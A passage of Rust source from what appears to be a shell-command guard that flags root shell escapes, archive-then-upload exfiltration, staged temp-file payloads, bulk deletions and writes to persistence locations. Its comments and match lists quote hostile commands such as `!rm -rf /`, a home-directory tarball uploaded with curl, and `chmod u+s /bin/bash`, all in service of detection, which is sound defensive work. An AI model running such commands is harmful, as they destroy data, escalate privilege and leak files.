        "zip" => argv.iter().skip(1).find(|a| !a.starts_with('-')).cloned(),
        "7z" => argv.iter().skip(2).find(|a| !a.starts_with('-')).cloned(),
        _ => None,
    }
}

/// A line that is not a command but text typed into the program before it, handing that
/// program a shell: `!sh` or `!bash` to a pager or debugger, `:shell` or `:ter bash` to an
/// editor, `.shell sh` to a database shell, `os.execute("/bin/sh")` or `system("bash")` to an
/// interpreter's prompt. A command's name is a file name; these hold characters no program is
/// named with, are a dot command (`.shell`, not `.tools/bin/x`), or are a call: a name and one
/// parenthesised argument (bash itself would not accept them as shell).
fn typed_escape(cmd: &SimpleCommand) -> bool {
    let Some(name) = cmd.argv.first() else {
        return false;
    };
    // `:` alone is the shell's no-op builtin (`: "${SHELL:=/bin/bash}"`), unless an escape
    // follows it (`: !id`).
    let odd_name = (name != ":" || cmd.argv.get(1).is_some_and(|w| w.starts_with('!')))
        && name.contains(['!', ':', '(', ')', '\\', '"', '\'', '{', '}']);
    // `~r !id`: a mail client's tilde escape (bash would read `~r` as user r's home).
    let tilde_escape = name.len() > 1 && name.starts_with('~') && !name.contains('/');
    // `~<!id` reads as `~` with its input from `!id`.
    if name == "~" && cmd.inputs.iter().any(|i| i.starts_with('!') && i.len() > 1) {
        return true;
    }
    let odd_name = odd_name || tilde_escape;
    let dot_command = name.len() > 1 && name.starts_with('.') && !name.contains('/');
    let call = cmd.argv.len() == 2
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
        && cmd.argv[1].len() > 1
        && cmd.argv[1].starts_with('(')
        && cmd.argv[1].ends_with(')');
    if !(odd_name || dot_command || call) {
        return false;
    }
    // `!rm -rf /`, `:!id`, `~!make`: the escape of a pager, editor, debugger or mail or FTP
    // client runs what follows it as a command of that program's user, whatever it names.
    if shell_escape_runs_a_command(cmd) {
        return true;
    }
    let text = cmd.argv.join(" ");
    // Any word of it a shell's name, however the escape before it is spelled.
    let names_a_shell = text
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/')))
        .any(|w| crate::guard::carriers::is_shell(crate::guard::basename(w)));
    names_a_shell || hands_a_shell(&text)
}

/// Whether a typed line is a program's shell escape with a command after it: `!` led by
/// nothing, by psql's `\`, by an editor's `:` (with a range or `r`, `w`, `silent`, `exe`
/// before it) or by a mail client's `~` (`!rm -rf /`, `:!id`, `:%!id`, `:r !id`, `~! make`,
/// `~|id`); an editor's `:sh` or `:term`; sqlite3's `.shell` or `.system` with a command.
fn shell_escape_runs_a_command(cmd: &SimpleCommand) -> bool {
    // `: !id` reads as the shell's no-op builtin with words; typed into an editor, it escapes.
    if cmd.argv[0] == ":" && cmd.argv.get(1).is_some_and(|w| w.starts_with('!')) {
        return escape_runs_a_command(&cmd.argv[1]);
    }
    escape_runs_a_command(&cmd.argv.join(" "))
}

/// [`shell_escape_runs_a_command`] for one line of text.
fn escape_runs_a_command(line: &str) -> bool {
    let line = line.trim_start();
    let commandish = |rest: &str| {
        rest.trim_start()
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '~' | '"' | '\'' | '$'))
    };
    // `!!`, `!$`, `!-2`: history references, no command of their own.
    let bang = |rest: &str| {
        rest.strip_prefix('!')
            .is_some_and(|r| !r.starts_with('!') && commandish(r))
    };
    if let Some(editor) = line.strip_prefix(':') {
        let editor = editor
            .trim_start()
            .trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | '%' | '$' | ',' | '\'' | '<' | '>'));
        if matches!(editor.trim_end(), "sh" | "shell" | "ter" | "term" | "terminal") {
            return true;
        }
        let mut rest = editor;
        for lead in ["silent", "r", "read", "w", "write", "exe", "execute"] {
            if let Some(r) = rest.strip_prefix(lead).filter(|r| r.starts_with([' ', '!', '"'])) {
                rest = r.trim_start().trim_start_matches('"');
            }
        }
        return bang(rest) || rest.starts_with("call system(");
    }
    // `~!cmd`, `~|cmd`, and `~r !cmd`, `~< !cmd`: a command's output read into the message.
    if let Some(mail) = line.strip_prefix('~') {
        let read = mail
            .strip_prefix('r')
            .or_else(|| mail.strip_prefix('<'))
            .map(str::trim_start);
        return bang(mail) || mail.strip_prefix('|').is_some_and(commandish) || read.is_some_and(bang);
    }
    if let Some(dot) = line.strip_prefix(".shell ").or_else(|| line.strip_prefix(".system ")) {
        return commandish(dot);
    }
    bang(line.strip_prefix('\\').unwrap_or(line))
}

/// `sudo vim -c '!id'`, `sudo vim +'!id'`, `sudo gdb -ex 'shell id'`, `sudo mysql -e 'system id'`,
/// `sudo ftp host <<EOF` with `!rm -rf /` in it: a root program handed its shell escape in an
/// option or on stdin runs that command as root. Text tools whose programs use `!` for
/// negation (`awk '!seen[$0]++'`, `sed '!d'`) are not handed anything.
fn escape_handed(cmd: &SimpleCommand) -> bool {
    if OWN_SYNTAX.contains(&cmd.name()) {
        return false;
    }
    let program_command = |text: &str| {
        escape_runs_a_command(text)
            || ["shell ", "system ", "\\! "].iter().any(|lead| {
                text.trim_start()
                    .strip_prefix(lead)
                    .is_some_and(|r| !r.trim().is_empty())
            })
    };
    let args = &cmd.argv[1..];
    let in_option = args.iter().enumerate().any(|(i, a)| {
        let value = match a.as_str() {
            "-c" | "-ex" | "-e" | "--cmd" | "--command" | "--execute" | "--eval-command" => args.get(i + 1),
            _ => None,
        };
        value.is_some_and(|v| program_command(v)) || a.strip_prefix('+').is_some_and(program_command)
    });
    in_option
        || cmd
            .stdin_text
            .as_deref()
            .is_some_and(|t| t.lines().any(program_command))
}

/// `tar czf /tmp/x.tgz ~ && curl -F f=@/tmp/x.tgz https://...`: an archive of risky sources
/// packed by one command and uploaded by a later one in the same line.
pub fn line(pipelines: &[Pipeline], ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let mut packed: Vec<(String, Vec<String>)> = Vec::new();
    // A program started as root earlier in the text, and text handing a shell written to a
    // file: what follows runs as root.
    let mut root_before = false;
    // Whether that root program is one the guard does not know: a bare shell typed after a
    // known one (`sudo apt-get install -y zsh && exec zsh`) is started by the user's shell
    // once it has exited; after an unknown interactive program (`sudo hping3`, then
    // `/bin/sh`) it is typed into that program.
    let mut unknown_root_before = false;
    let mut shell_text_written = false;
    // Text written to a file by `echo`/`printf` earlier in the line, judged when a later
    // command names the file.
    let mut staged: Vec<(String, String)> = Vec::new();
    for pipeline in pipelines {
        for (position, cmd) in pipeline.iter().enumerate() {
            staged_payload(cmd, &mut staged, ctx, out);
            let bare_shell = crate::guard::carriers::is_shell(cmd.name())
                && cmd.argv[1..]
                    .iter()
                    .all(|a| matches!(a.as_str(), "-i" | "-p" | "-s" | "-l" | "--login"));
            // A line typed into the root program, not a shell handed to a later command.
            // `~|id`, typed into a mail client, pipes the message through a command: the line
            // reads as `~` piped into it.
            let mail_pipe = position == 1 && pipeline[0].argv.len() == 1 && pipeline[0].argv[0] == "~";
            let typed =
                root_before && !cmd.carried && ((bare_shell && unknown_root_before) || typed_escape(cmd) || mail_pipe);
            if typed || (shell_text_written && cmd.as_root) {
                out.push(block(
                    Category::Privilege,
                    ROOT_SHELL,
                    Risk::Critical,
                    cmd,
                    "a shell reached through a program running as root (typed into it, or planted in a file it reads)",
                ));
            }
            // Only a root program whose input is the terminal reads the lines typed after it
            // (not `echo x | sudo tee f`, `sudo cmd < f`, `$(sudo cmd)`).
            // A pager or editor reads its keys from the terminal even when its text is piped
            // in (`git log | sudo less`).
            let keys_from_terminal = matches!(
                cmd.name(),
                "less" | "more" | "most" | "man" | "vi" | "vim" | "nvim" | "view"
            );
            let terminal_root = cmd.as_root
                && !cmd.captured
                && (keys_from_terminal || (position == 0 && cmd.inputs.is_empty() && cmd.stdin_text.is_none()));
            root_before |= terminal_root;
            unknown_root_before |= terminal_root && unknown_to_the_guard(cmd.name());
            if !cmd.redirects.is_empty() && matches!(cmd.name(), "echo" | "printf" | "cat") {
                let text = cmd.argv[1..].join(" ") + cmd.stdin_text.as_deref().unwrap_or("");
                shell_text_written |= hands_a_shell(&text) || shell_after_separator(&text) || text.contains("exec ");
            }
            if matches!(cmd.name(), "tar" | "bsdtar" | "zip" | "7z") {
                if let Some(archive) = archive_file(cmd).filter(|a| a != "-") {
                    let sources = cmd
                        .argv
                        .iter()
                        .skip(1)
                        .filter(|a| !a.starts_with('-') && **a != archive && !is_tar_mode(a) && a.as_str() != "a")
                        .cloned()
                        .collect();
                    packed.push((archive, sources));
                }
                continue;
            }
            let mut sent: Vec<String> = http_uploads(cmd)
                .map(|(files, _)| files.into_iter().map(|(f, _)| f).collect())
                .unwrap_or_default();
            if let Some(spec) = spec_for(cmd.name()) {
                for (clause, operands) in spec.effects(&cmd.argv[1..]) {
                    if clause.does == Does::CopyToRemote
                        && operands.last().is_some_and(|d| super::spec::Val::Remote.holds(d))
                    {
                        sent.extend(operands[..operands.len() - 1].iter().map(|s| s.to_string()));
                    }
                }
            }
            if sent.is_empty() {
                continue;
            }
            // The upload names an archive packed earlier: judge what went into it.
            for (archive, sources) in &packed {
                let name = Path::new(archive)
                    .file_name()
                    .and_then(|n| n.to_str())
                    .unwrap_or(archive);
                if sent.iter().any(|a| a == archive || a.ends_with(name)) {
                    judge_upload(cmd, sources.iter().map(String::as_str), true, "a remote host", ctx, out);
                }
            }
        }
    }
}

/// `echo 'rm -rf ~' > /tmp/x; chmod +x /tmp/x; tool --on-error=/tmp/x`: a command the guard
/// blocks, written to a file that a later command of the line runs, hands on or makes
/// executable. Written text is judged only once a later command names its file (a note that
/// quotes a dangerous command is no payload), and then as the command it is.
fn staged_payload(
    cmd: &SimpleCommand,
    staged: &mut Vec<(String, String)>,
    ctx: &GuardContext<'_>,
    out: &mut Vec<Violation>,
) {
    if cmd.argv.is_empty() {
        return;
    }
    let cwd = cmd.cwd.as_deref();
    let in_temp = |p: &str| place_of(p, cwd, ctx.workspace) == Place::Temp;
    // Handed over as an option's value (`-c /tmp/x`, `--config=/tmp/x`): the program reads
    // it as its configuration, and a configuration can name a program to run.
    let config_of = |file: &str| {
        cmd.argv[1..].iter().any(|w| {
            w.split_once('=')
                .is_some_and(|(k, v)| k.starts_with('-') && v.contains(file))
        }) || cmd.argv.windows(2).any(|w| w[0].starts_with('-') && w[1] == file)
    };
    // Run (`/tmp/x`, `sh /tmp/x`, `. /tmp/x`), made executable, taken as a configuration, or
    // handed over as the directory holding it (a toolchain linked from `/tmp/d/`). A file in
    // the workspace merely read, added or copied is not run; one staged in a temp directory
    // and handed to a program not known to only read (`csplit /tmp/x 1`) is taken as run: the
    // program does with it whatever it does with its input.
    let runs = |file: &str| {
        let dir_of = |w: &str| {
            let dir = w.trim_end_matches('/');
            dir.len() > 1 && dir.starts_with('/') && file.starts_with(&format!("{dir}/"))
        };
        let runner = crate::guard::carriers::is_shell(cmd.name())
            || matches!(
                cmd.name(),
                "source" | "." | "chmod" | "python" | "python3" | "perl" | "ruby" | "node" | "php"
            );
        cmd.argv[0] == file
            || (runner && cmd.argv[1..].iter().any(|w| w == file))
            || (in_temp(file) && !is_quiet(cmd.name()) && cmd.argv[1..].iter().any(|w| w == file))
            || config_of(file)
            || cmd.argv[1..].iter().any(|w| dir_of(w))
    };
    if let Some(at) = staged.iter().position(|(file, _)| runs(file)) {
        let (file, text) = staged.remove(at);
        // A configuration that hands the program a shell or a library from a temp directory
        // (`Dpkg::Pre-Invoke {"/bin/sh"}`, `load_module /dev/shm/x.so`, `"exec chmod u+s
        // /bin/bash"`), the `#!` line of a script aside.
        let body: String = text
            .lines()
            .filter(|l| !l.starts_with("#!"))
            .collect::<Vec<_>>()
            .join("\n");
        // Only for a file staged in a temp directory: a configuration kept in the workspace
        // may well name the shell its program runs (`SHELL=/bin/sh`).
        let hands = in_temp(&file)
            && config_of(&file)
            && (hands_a_shell(&body) || names_library_in(&body, cwd, ctx.workspace, &[Place::Temp]));
        // Prose that does not parse (`It's a note`) is no payload: only a block for what the
        // text does counts.
        let blocked = crate::guard::budget::check_carried(&text, ctx, None)
            .violations
            .iter()
            .any(|v| v.recommendation == Recommendation::Block && v.rule != crate::guard::rules::UNPARSEABLE);
        if hands || blocked {
            out.push(block(
                Category::RemoteExecution,
                crate::guard::rules::remote_execution::DYNAMIC_COMMAND,
                Risk::Critical,
                cmd,
                format!("runs or hands on {file}, written earlier in the line with a command the guard blocks"),
            ));
        }
    }
    // `echo TEXT > f`, `printf TEXT > f`, `cat > f <<EOF`.
    let heredoc = (cmd.name() == "cat" && cmd.argv.len() == 1)
        .then(|| cmd.stdin_text.clone())
        .flatten();
    if (matches!(cmd.name(), "echo" | "printf") || heredoc.is_some()) && !cmd.captured {
        let text = heredoc.unwrap_or_else(|| {
            cmd.argv[1..]
                .iter()
                .filter(|a| !matches!(a.as_str(), "-e" | "-n" | "-E"))
                .cloned()
                .collect::<Vec<_>>()
                .join(" ")
        });
        let text = text.replace("\\n", "\n");
        // A file named by several redirects of the command is written once (`echo x >f >f`
        // ×1,900 appended the text 1,900 times, quadratically: 7 s).
        let mut files: Vec<&String> = cmd.redirects.iter().filter(|f| !f.starts_with("/dev/")).collect();
        files.sort_unstable();
        files.dedup();
        for file in files {
            match staged.iter_mut().find(|(f, _)| f == file) {
                Some((_, before)) => *before = format!("{before}\n{text}"),
                None => staged.push((file.clone(), text.clone())),
            }
        }
    }
}

/// `find . -delete`, `find . -type f -exec rm {} +`: every file under the workspace root,
/// with no test that narrows what goes.
fn find_delete(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    // The words of an `-exec CMD ... ;` are CMD's, not find's: `find . -exec echo -delete \;`
    // prints the word `-delete`.
    let own = find_own_words(&cmd.argv);
    let argv = &own;
    let deletes = argv.contains(&"-delete")
        || cmd.argv.windows(2).any(|w| {
            // `-ok` asks before each file: with no one to answer, nothing goes.
            matches!(w[0].as_str(), "-exec" | "-execdir")
                && matches!(crate::guard::basename(&w[1]), "rm" | "shred" | "unlink")
        });
    if !deletes {
        return;
    }
    const NARROWING: &[&str] = &[
        "-name",
        "-iname",
        "-path",
        "-ipath",
        "-regex",
        "-iregex",
        "-wholename",
        "-iwholename",
        "-newer",
        "-mtime",
        "-mmin",
        "-atime",
        "-amin",
        "-ctime",
        "-cmin",
        "-size",
        "-empty",
        "-user",
        "-group",
        "-perm",
        "-links",
        "-samefile",
        "-inum",
        "-lname",
        "-ilname",
        "-newermt",
        "-uid",
        "-gid",
    ];
    // find evaluates its expression left to right: a test after `-delete` narrows nothing
    // (`find . -delete -name x` deletes every file, then tests the name).
    let acts_at = argv
        .iter()
        .position(|a| matches!(*a, "-delete" | "-exec" | "-execdir"))
        .unwrap_or(argv.len());
    if argv[..acts_at].iter().any(|a| NARROWING.contains(a)) {
        return;
    }
    let starts: Vec<&str> = argv
        .iter()
        .skip(1)
        .take_while(|a| !a.starts_with('-') && !a.starts_with('(') && **a != "!")
        .copied()
        .collect();
    let cwd = cmd.cwd.as_deref();
    let everything = starts.is_empty()
        || starts
            .iter()
            .any(|s| matches!(place_of(s, cwd, ctx.workspace), Place::WorkspaceAll));
    if everything {
        out.push(block(
            Category::Deletion,
            BULK_DELETE,
            Risk::High,
            cmd,
            "deletes every file under the workspace root: no test narrows what find matches",
        ));
    }
}

/// find's own words: its argv without the command words of `-exec`/`-execdir`/`-ok`/`-okdir`
/// (up to their `;` or `+`), the action word itself kept.
fn find_own_words(argv: &[String]) -> Vec<&str> {
    let mut out = Vec::with_capacity(argv.len());
    let mut inside = false;
    for a in argv {
        if inside {
            inside = !matches!(a.as_str(), ";" | "\\;" | "+");
            continue;
        }
        inside = matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir");
        out.push(a.as_str());
    }
    out
}

/// Whether a command handed file names one by one (by `xargs` or a `while read` loop) destroys
/// each file it is handed: deletes it (`rm`, `shred`, `trash`, `gio trash`) or empties it
/// (`truncate -s 0`, `cp /dev/null`, a loop's `: > "$f"`).
pub(crate) fn destroys_each_fed_file(cmd: &SimpleCommand) -> bool {
    let args = cmd.argv.get(1..).unwrap_or_default();
    // `-s 0`, `-s0K`, `-cs 0`, `--size=0M`: a size of nothing, in any unit.
    let zero = |v: &str| v.trim_end_matches(|c: char| c.is_ascii_alphabetic()) == "0";
    let size_zero = |w: &[String]| match w {
        [o, v, ..] if o == "--size" || (o.starts_with('-') && !o.starts_with("--") && o.ends_with('s')) => zero(v),
        [o, ..] => {
            o.strip_prefix("--size=").is_some_and(zero)
                || crate::guard::options::bundle(o, |c| c == 's')
                    .and_then(|b| b.glued)
                    .is_some_and(zero)
        }
        [] => false,
    };
    let empty_source = |a: &String| matches!(a.as_str(), "/dev/null" | "/dev/zero");
    match cmd.name() {
        "rm" | "unlink" | "shred" | "srm" | "wipe" | "trash" | "trash-put" | "rmtrash" | "gvfs-trash" | "rip"
        | "rmw" => true,
        "gio" | "kioclient" | "kioclient5" | "gtrash" => args
            .first()
            .is_some_and(|s| matches!(s.as_str(), "trash" | "remove" | "rm" | "put")),
        // `git ls-files | xargs git rm -f`: removed from the checkout too, unless `--cached`.
        "git" => args.first().is_some_and(|s| s == "rm") && !args.iter().any(|a| a == "--cached"),
        "truncate" => {
            (0..args.len()).any(|k| size_zero(&args[k..(k + 2).min(args.len())]))
                || args
                    .windows(2)
                    .any(|w| matches!(w[0].as_str(), "-r" | "--reference") && empty_source(&w[1]))
                || args.iter().any(|a| {
                    a.strip_prefix("--reference=")
                        .is_some_and(|r| empty_source(&r.to_string()))
                })
        }
        // `cp /dev/null F`, `install -m 644 /dev/null F`, `ln -sf /dev/null F`: each file
        // replaced by nothing.
        "cp" | "install" => args
            .split_last()
            .is_some_and(|(_, sources)| sources.iter().any(empty_source)),
        "ln" => {
            args.iter().any(empty_source)
                && args.iter().any(|a| {
                    a == "--force" || crate::guard::options::bundle(a, |_| false).is_some_and(|b| b.flags.contains('f'))
                })
        }
        "tee" => cmd.inputs.iter().any(empty_source),
        _ => cmd.overwrites_fed_files,
    }
}

/// `ls | xargs rm -rf`, `git ls-files | xargs rm`, `find ~ | while read f; do : > "$f"; done`: a
/// listing of everything fed to a command that destroys each file (see
/// [`destroys_each_fed_file`]).
fn listing_fed_delete(
    lister: &SimpleCommand,
    deleter: &SimpleCommand,
    ctx: &GuardContext<'_>,
    out: &mut Vec<Violation>,
) {
    let cwd = lister.cwd.as_deref();
    let operands = positional_words(lister.argv.get(1..).unwrap_or_default(), &[]);
    let everywhere = |ops: &[&str]| {
        ops.is_empty()
            || ops.iter().any(|o| {
                matches!(
                    place_of(o, cwd, ctx.workspace),
                    Place::WorkspaceAll | Place::Home | Place::System | Place::Outside | Place::Startup
                )
            })
    };
    let all = match lister.name() {
        "ls" | "dir" | "eza" | "exa" | "lsd" => everywhere(&operands),
        "find" | "fd" | "fdfind" | "bfs" | "gfind" => {
            const NARROWING: &[&str] = &[
                "-name",
                "-iname",
                "-path",
                "-regex",
                "-newer",
                "-mtime",
                "-mmin",
                "-size",
                "-empty",
                "-e",
                "--extension",
                "-g",
                "--glob",
            ];
            !lister.argv.iter().any(|a| NARROWING.contains(&a.as_str()))
                && everywhere(&operands.iter().take(1).copied().collect::<Vec<_>>())
        }
        // Every tracked file: `git ls-files` with no path and no option that picks some
        // (`-d`, `-m`, `--others`, `-x`), or `git ls-tree -r --name-only HEAD`.
        "git" => match lister.argv.get(1).map(String::as_str) {
            // `-co --exclude-standard`: tracked and untracked files, everything but the ignored.
            Some("ls-files") => {
                let cached = lister.argv[2..].iter().any(|a| {
                    a == "--cached"
                        || crate::guard::options::bundle(a, |_| false).is_some_and(|b| b.flags.contains('c'))
                });
                operands.len() <= 1
                    && lister.argv[2..].iter().all(|a| {
                        matches!(
                            a.as_str(),
                            "-z" | "-c" | "--cached" | "--full-name" | "-t" | "-v" | "--recurse-submodules"
                        ) || (cached
                            && (matches!(a.as_str(), "--others" | "--exclude-standard")
                                || crate::guard::options::bundle(a, |_| false)
                                    .is_some_and(|b| b.flags.chars().all(|c| "cozt".contains(c)))))
                    })
            }
            Some("ls-tree") => lister.argv.iter().any(|a| a == "-r") && operands.len() <= 2,
            _ => false,
        },
        "rg" => {
            let files = lister.argv.iter().any(|a| a == "--files")
                && !lister
                    .argv
                    .iter()
                    .any(|a| matches!(a.as_str(), "-g" | "--glob" | "-t" | "--type"))
                && everywhere(&operands);
            files || names_matching_files(lister).is_some_and(|folder| everywhere(&[folder]))
        }
        "echo" | "printf" => operands.contains(&"*"),
        // `du -a ~ | cut -f2`, `tree -fi ~`, `grep -rl '' ~`: every file under a folder, one
        // per line.
        "du" | "tree" | "grep" | "egrep" | "ag" => listed_folder(lister).is_some_and(|folder| everywhere(&[folder])),
        _ => false,
    };
    if all {
        let cmd = SimpleCommand {
            argv: lister.argv.iter().chain(deleter.argv.iter()).cloned().collect(),
            ..deleter.clone()
        };
        out.push(block(
            Category::Deletion,
            BULK_DELETE,
            Risk::High,
            &cmd,
            "destroys (deletes or empties) everything a listing of the whole directory names",
        ));
    }
}

/// `rm -rf node_modules`, `rm -r .venv`: installed dependencies (warned: reinstalling them
/// needs the network and may not give the same versions back).
fn dependency_dirs(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cwd = cmd.cwd.as_deref();
    if let Some(dir) = cmd
        .argv
        .iter()
        .skip(1)
        .filter(|a| !a.starts_with('-'))
        .find(|a| place_of(a, cwd, ctx.workspace) == Place::DependencyDir)
    {
        out.push(warn(
            Category::Deletion,
            DEPENDENCY_DIR,
            cmd,
            format!("deletes {dir}, installed dependencies or a package cache: getting them back needs the network"),
        ));
    }
}

/// Whether a chmod mode only takes permissions away: symbolic clauses that all remove
/// (`go-w`, `o-rwx`), or a numeric mode without special bits that leaves the group and others
/// nothing to write or run (`600`, `700`, `644`).
fn tightens(mode: &str) -> bool {
    if !mode.is_empty() && mode.chars().all(|c| c.is_ascii_digit()) {
        let digits: Vec<u32> = mode.chars().filter_map(|c| c.to_digit(8)).collect();
        let special = digits.len() == 4 && digits[0] != 0;
        return digits.len() == mode.len()
            && (3..=4).contains(&digits.len())
            && !special
            && digits[digits.len() - 2..].iter().all(|d| d & 0o3 == 0);
    }
    mode.split(',').all(|clause| {
        clause
            .split_once('-')
            .is_some_and(|(who, _)| who.chars().all(|c| "ugoa".contains(c)) && !clause.contains(['+', '=']))
    })
}

/// A block device holding file systems: a disk, a partition, a volume.
fn is_disk(path: &str) -> bool {
    const DISKS: &[&str] = &[
        "/dev/sd",
        "/dev/nvme",
        "/dev/vd",
        "/dev/xvd",
        "/dev/hd",
        "/dev/mmcblk",
        "/dev/md",
        "/dev/dm-",
        "/dev/mapper/",
        "/dev/loop",
        "/dev/disk/",
        "/dev/root",
        "/dev/zd",
    ];
    DISKS.iter().any(|d| path.starts_with(d))
}

/// A program with a spec handed, in a word none of the spec's clauses describes, a place the
/// system runs commands from or a git hook: what it does there the guard cannot tell, and a
/// log, an output or a copy there is a way in (`sudo screen -L /etc/ld.so.preload ..`).
fn undescribed_persistence(cmd: &SimpleCommand, covered: &[&str], ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    for a in cmd.argv.iter().skip(1) {
        let path = a
            .split_once('=')
            .filter(|(k, _)| k.starts_with('-'))
            .map_or(a.as_str(), |(_, v)| v);
        if path.starts_with('-') || !path.contains('/') || covered.contains(&path) || covered.contains(&a.as_str()) {
            continue;
        }
        let what = match place_of(path, cmd.cwd.as_deref(), ctx.workspace) {
            Place::Persistence => "a place the system runs commands from",
            Place::VcsHooks => "a git hook",
            _ => continue,
        };
        out.push(violation(
            Category::Privilege,
            SYSTEM_STATE,
            Recommendation::Block,
            Risk::High,
            &cmd.display(),
            format!(
                "`{}` is handed {path} ({what}) in a word its spec does not describe",
                cmd.name()
            ),
        ));
        return;
    }
}

/// A program without a spec, not known to only read, build or test, handed a path in kernel
/// state, a persistence location, VCS hooks or a system directory.
fn unknown_program(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    // `chmod 600 ~/.ssh/authorized_keys`, `chmod go-w /etc/cron.d/x`: permissions taken away
    // change no content and grant nothing.
    if cmd.name() == "chmod"
        && cmd.argv[1..]
            .iter()
            .find(|a| !a.starts_with('-'))
            .is_some_and(|m| tightens(m))
    {
        return;
    }
    // Asked only to show something: `mdadm --detail`, `lvs --info`, `tool status`.
    const INSPECT: &[&str] = &[
        "--detail",
        "--examine",
        "--query",
        "-D",
        "-E",
        "-Q",
        "--info",
        "--list",
        "-l",
        "--show",
        "--dump",
        "--print",
        "--status",
        "--check",
        "--verify",
        "--test",
        // Disk tools' printing modes: `parted DISK print`, `cryptsetup luksDump`. Their
        // writing modes have their own disk rules. (`-p` is not one: `e2fsck -p` repairs.)
        "print",
        "luksDump",
        "isLuks",
        "status",
        "info",
        "show",
        "list",
        "ls",
        "get",
        "describe",
    ];
    // Asked only to show something, a program still judged for what it is handed where the
    // system runs commands from: `-l FILE` is a log file to some, a listing to others.
    let inspecting = cmd.argv.iter().skip(1).any(|a| INSPECT.contains(&a.as_str()));
    let cwd = cmd.cwd.as_deref();
    // `dos2unix -n IN OUT`, `lwp-download URL FILE`, `xxd -r - FILE`: of two or more
    // positional arguments, the last is where a program that converts or fetches writes.
    // Counted only when a startup file is among the arguments: most commands have none.
    let is_output = |a: &String| {
        let mut positional = cmd.argv[1..].iter().filter(|w| !w.starts_with('-') || *w == "-");
        positional.next().is_some() && positional.next_back().is_some_and(|last| std::ptr::eq(last, a))
    };
    for a in cmd.argv.iter().skip(1) {
        let path = a
            .split_once('=')
            .filter(|(k, _)| k.starts_with('-'))
            .map(|(_, v)| v)
            .unwrap_or(a);
        if path.starts_with('-') || !path.contains('/') {
            continue;
        }
        let place = place_of(path, cwd, ctx.workspace);
        // Programs read from /usr, /opt, /bin and /nix all the time (headers, libraries, data,
        // interpreters): the system's *state* is /etc, /var, /boot, /root, /srv; of the
        // devices, the disks.
        let state_dir = ["/etc", "/var", "/boot", "/root", "/srv"].iter().any(|d| {
            path.strip_prefix(d)
                .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        });
        let (what, rec) = match place {
            // Hardware tools read /sys all the time; writes there are judged as writes.
            Place::Persistence => ("a place the system runs commands from", Recommendation::Block),
            Place::VcsHooks => ("a git hook", Recommendation::Block),
            _ if inspecting || UPKEEP.contains(&cmd.name()) => continue,
            Place::Kernel => ("kernel state", Recommendation::Warn),
            Place::Startup if is_output(a) => (
                "a startup file, in the place a converter or downloader writes its output",
                Recommendation::Block,
            ),
            Place::Startup => ("a startup file", Recommendation::Warn),
            Place::System if state_dir => ("a system path", Recommendation::Warn),
            Place::Device if is_disk(path) => ("a disk", Recommendation::Warn),
            _ => continue,
        };
        out.push(violation(
            Category::Privilege,
            SYSTEM_STATE,
            rec,
            if rec == Recommendation::Block {
                Risk::High
            } else {
                Risk::Medium
            },
            &cmd.display(),
            format!(
                "`{}` is handed {path} ({what}); the guard has no spec saying it only reads it",
                cmd.name()
            ),
        ));
        return;
    }
}
